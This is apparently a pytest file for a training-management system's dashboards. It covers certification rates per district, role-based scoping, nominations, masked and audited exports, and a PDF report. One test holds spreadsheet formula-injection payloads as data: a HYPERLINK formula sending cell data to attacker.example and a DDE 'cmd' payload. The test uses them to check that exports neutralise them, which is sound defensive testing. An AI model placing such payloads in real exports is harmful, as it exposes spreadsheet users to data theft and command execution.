"""The dashboards as their users see them: figures, scoping, drill-down, nomination, exports
and the monthly PDF."""

from __future__ import annotations

import csv
import io
import subprocess
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy import select

from lms.core import localtime
from lms.core.audit import AuditEvent
from lms.core.roles import Role
from lms.db import db
from lms.learning.models import Enrolment, EnrolmentStatus
from lms.reports.models import DataRevision
from tests.conftest import zh
from tests.factories import make_district, make_institution, make_staff, make_user
from tests.learning.factories import make_cohort, make_course, make_plan
from tests.reports.factories import certify


def _world():
    """Two districts: 潞州区 with a fully certified institution and one at 1 of 4, 上党区 at 2
    of 2."""
    home, away = make_district("140403"), make_district("140404")
    good, poor, far = (
        make_institution(home, name="阳光托育中心"),
        make_institution(home, name="小星星托育点"),
        make_institution(away, name="上党区托育中心"),
    )
    for number in range(3):
        certify(make_staff(good, name=f"阳光{number}"))
    certify(make_staff(poor, name="持证甲"))
    uncertified = [make_staff(poor, name=name) for name in ("未证乙", "未证丙", "未证丁")]
    for number in range(2):
        certify(make_staff(far, name=f"上党{number}"))
    return home, away, good, poor, far, uncertified


def test_city_dashboard_shows_the_rate_per_district_with_the_target(client):
    _home, _away, *_ = _world()
    client.login_as(make_user(Role.CITY_ADMIN))
    page = client.get("/dashboard")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    assert 'data-testid="rate"' in html and "66.7%" in html  # 6 of 9
    assert "57.1%" in html and "100.0%" in html  # 潞州区 4 of 7, 上党区 2 of 2
    assert "<svg" in html and "90.0%" in html  # the chart with its target line
    assert "http" not in html.split("<svg", 1)[1].split("</svg>")[0].replace(
        "http://www.w3.org", ""
    )


def test_district_admins_see_their_district_only_and_managers_their_institution(client):
    home, away, good, poor, far, _ = _world()
    client.login_as(make_user(Role.DISTRICT_ADMIN, district=home))
    html = client.get("/dashboard").get_data(as_text=True)
    assert home.name in html and away.name not in html and "57.1%" in html
    assert client.get(f"/dashboard/institutions/{far.id}").status_code == 404
    client.login_as(make_user(Role.INSTITUTION_MANAGER, institution=poor))
    landing = client.get("/dashboard")
    assert landing.status_code == 302 and landing.headers["Location"].endswith(
        f"/dashboard/institutions/{poor.id}"
    )
    html = client.get(f"/dashboard/institutions/{poor.id}").get_data(as_text=True)
    assert "25.0%" in html and "未证乙" in html and "阳光0" not in html
    assert client.get(f"/dashboard/institutions/{good.id}").status_code == 404


def test_institutions_below_the_target_sorted_by_people_without_certificate(client):
    _world()
    extra = make_institution(make_district("140403"), name="月亮湾托育园")
    make_staff(extra, name="月亮甲")
    certify(make_staff(extra, name="月亮乙"))
    client.login_as(make_user(Role.CITY_ADMIN))
    html = client.get("/dashboard/institutions?below=y&sort=uncertified&desc=y").get_data(
        as_text=True
    )
    assert html.index("小星星托育点") < html.index("月亮湾托育园")
    assert "阳光托育中心" not in html and "上党区托育中心" not in html


def test_a_manager_nominates_uncertified_staff_to_a_coming_cohort_in_one_click(
    client, csrf_enabled
):
    *_, poor, _far, uncertified = _world()
    cohort = make_cohort(
        make_plan(),
        make_course(),
        title="第三期五级班",
        ends_on=localtime.today() + timedelta(days=60),
    )
    manager = make_user(Role.INSTITUTION_MANAGER, institution=poor)
    client.login_as(manager)
    page = client.get(f"/dashboard/institutions/{poor.id}").get_data(as_text=True)
    assert "第三期五级班" in page
    token = page.split('name="csrf_token" type="hidden" value="')[1].split('"')[0]
    response = client.post(
        f"/dashboard/institutions/{poor.id}/nominate",
        data={
            "csrf_token": token,
            "cohort_id": cohort.id,
            "staff_ids": [s.id for s in uncertified],
        },
    )
    assert response.status_code == 302
    nominated = db.session.scalars(select(Enrolment).where(Enrolment.cohort_id == cohort.id)).all()
    assert {e.staff_id for e in nominated} == {s.id for s in uncertified}
    assert {e.status for e in nominated} == {EnrolmentStatus.NOMINATED}
    again = client.get(f"/dashboard/institutions/{poor.id}").get_data(as_text=True)
    assert zh("Nominated") in again and 'name="staff_ids"' not in again


def test_a_refused_nomination_nominates_nobody(client):
    *_, poor, far, uncertified = _world()
    cohort = make_cohort(make_plan(), make_course(), ends_on=localtime.today() + timedelta(days=60))
    outsider = make_staff(far, name="外区员工")
    client.login_as(make_user(Role.CITY_ADMIN))
    response = client.post(
        f"/dashboard/institutions/{poor.id}/nominate",
        data={"cohort_id": cohort.id, "staff_ids": [uncertified[0].id, outsider.id]},
    )
    assert response.status_code == 302  # the outsider is not a choice of this institution
    assert db.session.scalars(select(Enrolment)).all() == []


def test_exports_are_masked_unless_a_city_admin_asks_and_that_is_audited(client):
    *_, poor, _far, uncertified = _world()
    client.login_as(make_user(Role.CITY_ADMIN))
    exported = client.get(f"/dashboard/institutions/{poor.id}/uncertified.csv").get_data(
        as_text=True
    )
    assert "未证乙" in exported and uncertified[0].id_number_masked in exported
    full = client.get(f"/dashboard/institutions/{poor.id}/uncertified.xlsx?full=1")
    sheet = load_workbook(io.BytesIO(full.data)).active
    ids = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert len(ids) == 3 and all("*" not in value and len(value) == 18 for value in ids)
    assert db.session.scalar(
        select(AuditEvent).where(AuditEvent.action == "reports.uncertified_exported_full")
    )
    client.login_as(make_user(Role.DISTRICT_ADMIN, district=poor.district))
    assert (
        client.get(f"/dashboard/institutions/{poor.id}/uncertified.csv?full=1").status_code == 403
    )
    districts = client.get("/dashboard/districts.xlsx")
    rows = list(load_workbook(io.BytesIO(districts.data)).active.iter_rows(values_only=True))
    assert rows[1][:5] == ("140403", poor.district.name, 7, 4, 3) and rows[1][5] == 57.1
    institutions = client.get("/dashboard/institutions.csv").get_data(as_text=True)
    assert "小星星托育点,潞州区,4,1,3,25.0" in institutions.replace("\r", "")


def test_the_dashboard_follows_a_committed_change(client):
    *_, _poor, _far, uncertified = _world()
    client.login_as(make_user(Role.CITY_ADMIN))
    assert "66.7%" in client.get("/dashboard").get_data(as_text=True)
    revision = db.session.get(DataRevision, "rates")
    before = revision.revision if revision else 0
    certify(uncertified[0])  # committed by the next request, which bumps the revision
    html = client.get("/dashboard").get_data(as_text=True)
    assert "77.8%" in html  # 7 of 9
    db.session.expire_all()
    assert db.session.get(DataRevision, "rates").revision > before


def test_the_monthly_report_is_a_chinese_pdf(client, tmp_path):
    _world()
    client.login_as(make_user(Role.CITY_ADMIN))
    month = localtime.today().strftime("%Y-%m")
    response = client.get(f"/dashboard/report.pdf?month={month}")
    assert response.status_code == 200 and response.data.startswith(b"%PDF-")
    pdf = tmp_path / "report.pdf"
    pdf.write_bytes(response.data)
    text = subprocess.run(
        ["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout
    assert "持证上岗" in text.replace(" ", "") and "小星星托育点" in text and "66.7%" in text
    assert client.get("/dashboard/report.pdf?month=2099-01").status_code == 404  # not yet begun
    for month in ("2999-01", "0001-01", "2026-13", "May"):  # no month anybody reports on
        assert client.get(f"/dashboard/report.pdf?month={month}").status_code == 400


def test_the_funnel_counts_people_at_each_stage_of_this_years_plan(client):
    from tests.learning.factories import make_enrolment

    *_, _poor, _far, uncertified = _world()
    cohort = make_cohort(make_plan(year=localtime.today().year), make_course())
    statuses = (EnrolmentStatus.NOMINATED, EnrolmentStatus.ENROLLED, EnrolmentStatus.COMPLETED)
    for staff, status in zip(uncertified, statuses, strict=True):
        make_enrolment(cohort, staff, status=status)
    client.login_as(make_user(Role.CITY_ADMIN))
    html = client.get("/dashboard").get_data(as_text=True)
    funnel = html.split('data-testid="funnel"')[1].split("</ol>")[0]
    counts = [int(part.split("</strong>")[0]) for part in funnel.split("<strong>")[1:]]
    assert counts == [3, 2, 1, 0, 0, 0, 0]
    exported = client.get("/dashboard/funnel.xlsx")
    rows = list(load_workbook(io.BytesIO(exported.data)).active.iter_rows(values_only=True))
    assert [count for _stage, count in rows[1:]] == counts


def test_exported_text_cannot_run_as_a_spreadsheet_formula(client):
    hostile = [
        '=HYPERLINK("http://attacker.example/?x="&A1,"点击")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
    ]
    institutions = [make_institution(make_district("140403"), name=name) for name in hostile]
    for institution in institutions:
        make_staff(institution)
    client.login_as(make_user(Role.CITY_ADMIN))
    exported = client.get("/dashboard/institutions.csv").get_data(as_text=True)
    csv_names = {row[0] for row in list(csv.reader(io.StringIO(exported.lstrip("\ufeff"))))[1:]}
    workbook = load_workbook(io.BytesIO(client.get("/dashboard/institutions.xlsx").data))
    cells = [row[0] for row in workbook.active.iter_rows(min_row=2)]
    assert csv_names == {"'" + name for name in hostile}
    assert {cell.value for cell in cells} == {"'" + name for name in hostile}
    assert all(cell.data_type == "s" for cell in cells)  # text, not a formula


def test_the_institution_dashboard_has_a_plain_title_and_its_training_block_in_the_page(client):
    """The manager's landing page: the title is the institution's name only, and the funnel and
    pass rates appear once, in the main content, below the header (they once sat in the title)."""
    *_, poor, _far, _uncertified = _world()
    client.login_as(make_user(Role.INSTITUTION_MANAGER, institution=poor))
    html = client.get(client.get("/dashboard").headers["Location"]).get_data(as_text=True)
    title = html.split("<title>", 1)[1].split("</title>", 1)[0]
    assert title.startswith(poor.name + " · ") and "<" not in title and "&lt;" not in title
    assert html.count('id="funnel"') == 1 and html.count('id="pass-rates"') == 1
    main = html.split('<main id="main"', 1)[1].split("</main>", 1)[0]
    assert 'id="funnel"' in main and 'id="pass-rates"' in main
    assert html.index("</header>") < html.index('id="funnel"')


def test_no_page_title_holds_markup_or_an_include():
    """A page's <title> is text: no template puts tags, includes or macros in its title block."""
    import re
    from pathlib import Path

    block = re.compile(r"{%-?\s*block title\s*-?%}(.*?){%-?\s*endblock", re.S)
    for path in Path("templates").rglob("*.html"):
        for body in block.findall(path.read_text(encoding="utf-8")):
            assert "<" not in body and "{% include" not in body and "{%" not in body, path
